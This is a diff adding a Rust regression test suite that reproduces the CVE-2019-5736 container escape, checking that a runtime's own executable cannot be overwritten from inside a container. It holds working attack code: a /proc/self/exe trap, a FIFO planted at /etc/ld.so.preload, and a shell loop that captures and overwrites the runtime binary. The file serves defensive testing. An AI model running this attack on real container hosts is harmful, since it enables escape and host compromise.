@@ -1,0 +1,129 @@
+//! The runtime's own executable under attack from inside a container (CVE-2019-5736). Generic: `RUNTIME=runc` must
+//! pass too.
+
+use std::fs;
+use std::path::Path;
+
+use serde_json::json;
+use sharedroot_tests::attack::{Target, allow, script, targets};
+use sharedroot_tests::command::{out, run, unique_name};
+use sharedroot_tests::lab::{TempDir, wait_for};
+use sharedroot_tests::runtime::{Container, Runtime};
+
+/// Whatever runs it becomes what it is run by: the runtime, which starts inside the container, and there waits for a
+/// writer, because the dynamic loader reads `/etc/ld.so.preload` first and the image made that a FIFO.
+const TRAP: &str = "#!/proc/self/exe\n";
+
+/// Opens the executable of the first process that has not the image's, ends the process, writes to what it opened.
+const CAPTURE: &str = r#"
+for try in $(busybox seq 200); do
+    for p in /proc/[0-9]*; do
+        exe=$(busybox readlink $p/exe) || continue
+        case $exe in */bin/busybox) continue ;; esac
+        exec 9< $p/exe || continue
+        echo "captured $exe"
+        kill -9 ${p#/proc/}
+        for again in $(busybox seq 50); do
+            if echo overwritten 2>/dev/null > /proc/self/fd/9; then echo "overwritten $exe"; exit; fi
+            busybox usleep 20000
+        done
+        echo "kept $exe"; exit
+    done
+    busybox usleep 20000
+done
+echo "nothing captured""#;
+
+#[track_caller]
+fn trap(root: &Path) {
+    let loader = "lib64/ld-linux-x86-64.so.2";
+    fs::create_dir_all(root.join("lib64")).unwrap();
+    fs::copy(Path::new("/").join(loader), root.join(loader)).unwrap();
+    out(&["mkfifo", root.join("etc/ld.so.preload").to_str().unwrap()]);
+    script(&root.join("bin/trap"), TRAP);
+}
+
+/// A container whose root may look into every process it sees; the worst case.
+#[track_caller]
+fn attacker<'r>(runtime: &'r Runtime, target: &Target) -> Container<'r> {
+    target.edit(|config| {
+        config["process"]["args"] = json!(["sleep", "1000"]);
+        allow(config, &["CAP_SYS_PTRACE"]);
+    });
+    target.start(runtime)
+}
+
+/// The path of the runtime's executable and what it holds.
+fn executable(runtime: &Runtime) -> (String, Vec<u8>) {
+    let path = out(&["sh", "-c", &format!("realpath $(command -v {})", runtime.program())]);
+    let bytes = fs::read(&path).unwrap();
+    (path, bytes)
+}
+
+#[track_caller]
+fn fails(attacker: &Container<'_>, what: &str) {
+    let said = attacker.exec(&[], &["sh", "-c", CAPTURE]);
+    assert!(said.stdout.contains("captured"), "{what}: the attack did not get that far: {said}");
+    assert!(said.stdout.contains("kept"), "{what}: {said}");
+}
+
+#[test]
+fn vm_the_executable_cannot_be_overwritten() {
+    let runtime = Runtime::of_env();
+    let (path, before) = executable(&runtime);
+    for target in targets(&runtime, &["sleep", "1000"], trap) {
+        let attacker = attacker(&runtime, &target);
+        let what = |verb: &str| format!("{verb} on a root {}", target.kind);
+
+        attacker.exec(&["--detach"], &["/bin/trap"]).ok();
+        fails(&attacker, &what("exec"));
+
+        // Other containers of the same pid namespace, so that the attacker outlives what he attacks.
+        target.edit(|config| {
+            let shared = format!("/proc/{}/ns/pid", attacker.pid());
+            for namespace in config["linux"]["namespaces"].as_array_mut().unwrap() {
+                if namespace["type"] == "pid" {
+                    namespace["path"] = json!(shared);
+                }
+            }
+            config["process"]["args"] = json!(["/bin/trap"]);
+        });
+        let created = runtime.create(&target);
+        fails(&attacker, &what("create, before start,"));
+        drop(created);
+        let started = runtime.start(&target);
+        fails(&attacker, &what("create and start"));
+        drop(started);
+        let id = unique_name("run");
+        runtime.cmd(&["run", "--detach", "--bundle", target.str(), &id]).run().ok();
+        let ran = runtime.container(id);
+        fails(&attacker, &what("run"));
+        drop(ran);
+        assert!(fs::read(&path).unwrap() == before, "{}: {path} has changed", target.kind);
+    }
+    out(&[&path, "--version"]);
+}
+
+/// The means are real: what enters a container from a file of the host that is not sealed is overwritten.
+#[test]
+fn vm_an_executable_that_is_not_sealed_is_overwritten() {
+    let runtime = Runtime::of_env();
+    let dir = TempDir::new("naive");
+    let naive = format!("{}/naive", dir.str());
+    fs::copy("/bin/busybox", &naive).unwrap();
+    for target in targets(&runtime, &["sleep", "1000"], |_| {}) {
+        let attacker = attacker(&runtime, &target);
+        let pid = attacker.pid();
+        let enter = format!(
+            "exec 9< {naive}; nsenter --target {pid} --mount --pid \
+             /bin/sh -c 'exec -a sleep /proc/self/fd/9 1000' > /dev/null 2>&1 &"
+        );
+        out(&["sh", "-c", &enter]);
+        wait_for("the naive program runs in the container", || {
+            (run(&["fuser", &naive]).status == 0).then_some(())
+        });
+        let said = attacker.exec(&[], &["sh", "-c", CAPTURE]);
+        assert!(said.stdout.contains("overwritten"), "{}: {said}", target.kind);
+        assert_eq!(fs::read_to_string(&naive).unwrap(), "overwritten\n", "{}", target.kind);
+        fs::copy("/bin/busybox", &naive).unwrap();
+    }
+}
